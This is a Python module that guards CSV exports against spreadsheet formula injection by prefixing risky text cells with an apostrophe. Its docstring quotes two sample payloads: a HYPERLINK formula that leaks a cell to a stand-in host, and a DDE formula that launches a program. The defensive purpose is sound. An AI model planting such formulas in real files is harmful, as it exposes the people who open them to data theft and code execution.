"""CSV files that are safe to open in a spreadsheet.

Excel, LibreOffice Calc and Google Sheets run a CSV cell that begins with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return before one) as a formula: "CSV injection". A
cell such as ``=HYPERLINK("http://example.org/?"&A2, "open")`` can send the row next to it
away, and ``=cmd|' /C calc'!A0`` asks to start a program (DDE). Incident fields, place labels,
file names and boundary names are untrusted, so every CSV file geodemand writes goes through
:func:`spreadsheet_safe`: such a text cell gets an apostrophe in front (OWASP's advice). A
spreadsheet then shows the text as typed (the apostrophe marks it as text and is not shown);
a program reading the file sees the apostrophe.

Numbers are never changed, and neither is text that is a plain number (``-5``, ``+3.2e4``,
``-0.25``): a spreadsheet reads those as numbers, not formulas.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import numpy as np
import pandas as pd

from geodemand._atomic import atomic_path

__all__ = ["FORMULA_START", "spreadsheet_safe", "write_csv"]

#: Characters that make a spreadsheet treat a cell as a formula when the cell begins with one.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_START = re.compile(r"[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _formula_like(values: np.ndarray) -> np.ndarray:
    """Positions of the text values that begin like a formula and are not a plain number."""
    hits = [
        i for i, v in enumerate(values)
        if isinstance(v, str) and v[:1] in FORMULA_START and not _PLAIN_NUMBER.fullmatch(v)
    ]
    return np.asarray(hits, dtype=np.int64)


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with an apostrophe before every text cell a spreadsheet would run as a formula.

    Text is looked for in string, object and categorical columns (a category is guarded once,
    for all its cells). Returns ``frame`` itself when no cell needs it (nothing is copied),
    else a copy; column dtypes are kept.
    """
    out = None
    for position, name in enumerate(frame.columns):
        column = frame.iloc[:, position]
        if isinstance(column.dtype, pd.CategoricalDtype):
            guarded = _guard_categories(column)
        elif isinstance(column.dtype, pd.StringDtype) or column.dtype == object:
            guarded = _guard_values(column)
        else:
            continue
        if guarded is None:
            continue
        if out is None:
            out = frame.copy()
        out.isetitem(position, guarded.rename(name))
    return frame if out is None else out


def _guard_values(column: pd.Series) -> pd.Series | None:
    if isinstance(column.dtype, pd.StringDtype):
        # a quick vectorised look first: most columns have no cell that starts like a formula
        if not bool(np.asarray(column.str.match(_START.pattern, na=False), dtype=bool).any()):
            return None
    values = column.to_numpy(dtype=object)
    hits = _formula_like(values)
    if not hits.size:
        return None
    values = values.copy()
    values[hits] = ["'" + values[i] for i in hits]
    return pd.Series(values, index=column.index, dtype=column.dtype)


def _guard_categories(column: pd.Series) -> pd.Series | None:
    categories = column.cat.categories.to_numpy(dtype=object)
    hits = _formula_like(categories)
    if not hits.size:
        return None
    renamed = categories.copy()
    renamed[hits] = ["'" + renamed[i] for i in hits]
    if len(set(renamed.tolist())) == len(renamed):
        return column.cat.rename_categories(renamed)
    # a guarded name equals another category: guard the cells as plain text instead
    return _guard_values(column.astype(object))


def write_csv(frame: pd.DataFrame, path: str | os.PathLike[str], **to_csv) -> Path:
    """Write ``frame`` as CSV through :func:`spreadsheet_safe`, atomically (a temporary file
    renamed onto ``path``); ``to_csv`` goes to :meth:`pandas.DataFrame.to_csv` (default
    ``index=False``). Returns the path."""
    to_csv.setdefault("index", False)
    safe = spreadsheet_safe(frame)
    with atomic_path(path) as tmp:
        safe.to_csv(tmp, **to_csv)
    return Path(path)
